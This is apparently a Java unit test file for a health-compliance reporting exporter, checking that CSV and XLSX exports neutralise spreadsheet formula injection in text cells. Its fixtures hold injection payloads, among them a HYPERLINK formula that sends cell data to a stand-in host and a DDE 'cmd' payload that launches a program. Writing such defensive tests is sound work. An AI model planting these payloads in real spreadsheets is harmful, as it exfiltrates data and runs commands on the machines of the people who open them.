package cn.tongyou.reporting.api;

import cn.tongyou.reporting.domain.Completeness;
import cn.tongyou.reporting.domain.Compliance;
import cn.tongyou.reporting.domain.Discipline;
import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Exports neutralise formula prefixes in text cells (issue 12) and leave numbers as they are. */
class ExporterTest {

    static final String LINK = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击\")";

    static Compliance poisoned() {
        Compliance.TargetItem target = new Compliance.TargetItem("t1", "@SUM(A1)", LINK, "+健康", "‰", "410185000000", 2025,
                "max", "-1+1", "NOT_MET", "above", new BigDecimal("-2.50"), "2025", null, null, new BigDecimal("2"),
                new BigDecimal("-1"), "2025-12-31", false, "\t=1+1", List.of("-单位", "区卫健局"), 3);
        Compliance.MilestoneItem milestone = new Compliance.MilestoneItem("m1", "p1", "k1", "=1", "\r=cmd|' /C calc'!A0",
                "+健康", "410185000000", LocalDate.of(2025, 6, 30), "open", "overdue", 5L, "NOT_MET", "=2+2",
                List.of("@unit"), 2);
        Compliance.Summary summary = new Compliance.Summary(Map.of("NOT_MET", 2), 0,
                List.of(new Compliance.DomainTotals("+健康", Map.of("NOT_MET", 2), 0)));
        return new Compliance(null, "410185000000", "=测试县", "county", "2025", LocalDate.of(2026, 2, 1), Instant.EPOCH, summary,
                List.of(target), List.of(milestone), List.of(), List.of(new Compliance.UnitLine("u1", "=单位()", 1, 0, 1)),
                List.of(new Compliance.Warning("target-not-met", "t1", "=警告", List.of("-u"), List.of())), List.of(), Map.of())
                .withDiscipline(List.of(new Discipline.ApprovalState("410185000000", "+审核县", "county", "returned", "prefecture", 2,
                                Instant.EPOCH, "@coordinator", "=HYPERLINK(\"x\")", List.of())),
                        completeness(), List.of(new Compliance.Warning("quality-violation", "f1", "=质量", List.of(), List.of())));
    }

    static Completeness completeness() {
        Completeness.CompletenessLine line = Completeness.CompletenessLine.of(null, "u1", "=单位名", null,
                Completeness.CompletenessCounts.of(3, 1, 1, 0), Completeness.CompletenessCounts.NONE);
        return new Completeness("410185000000", "=测试县", "county", "2025", LocalDate.of(2026, 2, 1), LocalDate.of(2026, 1, 15),
                "2025H2", LocalDate.of(2026, 1, 15), line, List.of(), List.of(line));
    }

    @Test
    void completenessExportsNeutraliseTextAndKeepRatesAsNumbers() {
        String csv = new String(Exporter.csv(completeness(), completeness().units()), StandardCharsets.UTF_8);
        assertThat(csv).contains(",u1,'=单位名,,3,1,1,0,0.3333,0.3333,0.0000,0,0,0,0,,,,3,1,1,0,2,0.3333,0.3333,0.0000");
        String xml = ComplianceApiTest.unzipText(Exporter.xlsx(completeness(), completeness().units())).replace("&apos;", "'");
        assertThat(xml).contains("'=单位名").doesNotContain("<f>").contains("0.00%");
    }

    @Test
    void csvTextCellsNeverStartAFormula() {
        String csv = new String(Exporter.csv(poisoned()), StandardCharsets.UTF_8);
        assertThat(csv).contains("'" + LINK.replace("\"", "\"\""), "'@SUM(A1)", "'+健康", "'=单位()", "'=2+2", "'=1");
        assertThat(csv).contains("'\t=1+1").contains("'\r=cmd");
        assertThat(csv).contains("'-单位、区卫健局");
        // issue 15's rows: an approval (region name, actor, comment) and completeness lines
        assertThat(csv).contains("'+审核县", "'@coordinator", "'=单位名").doesNotContain(",=单位名");
        // numbers stay numbers: a negative value is no formula
        assertThat(csv).contains(",-2.5,").contains(",-1,").doesNotContain("'-2.5").doesNotContain("'-1,");
        for (String line : csv.substring(1).split("\r\n")) {
            for (String field : line.split(",")) {
                String f = field.startsWith("\"") ? field.substring(1) : field;
                if (!f.isEmpty() && "=+@".indexOf(f.charAt(0)) >= 0) {
                    throw new AssertionError("a cell starts a formula: " + field + " in " + line);
                }
            }
        }
    }

    @Test
    void xlsxTextCellsAreNeutralisedToo() {
        String xml = ComplianceApiTest.unzipText(Exporter.xlsx(poisoned()))
                .replace("&apos;", "'").replace("&quot;", "\"").replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">");
        assertThat(xml).contains("'=HYPERLINK").doesNotContain("<f>");
        java.util.regex.Matcher texts = java.util.regex.Pattern.compile("<t(?: [^>]*)?>([^<]*)</t>").matcher(xml);
        int seen = 0;
        while (texts.find()) {
            String text = texts.group(1);
            seen++;
            assertThat(!text.isEmpty() && "=+@\t\r".indexOf(text.charAt(0)) >= 0).as("text cell starts a formula: " + text).isFalse();
        }
        assertThat(seen).isPositive();
    }

    @Test
    void cellNeutralisesTextOnly() {
        assertThat(Exporter.cell("=1+1")).isEqualTo("'=1+1");
        assertThat(Exporter.cell("正常")).isEqualTo("正常");
        assertThat(Exporter.cell(-3)).isEqualTo(-3);
        assertThat(Exporter.cell(new Exporter.Shown("-3.5")).toString()).isEqualTo("-3.5");
        assertThat(Exporter.cell(null)).isNull();
    }
}
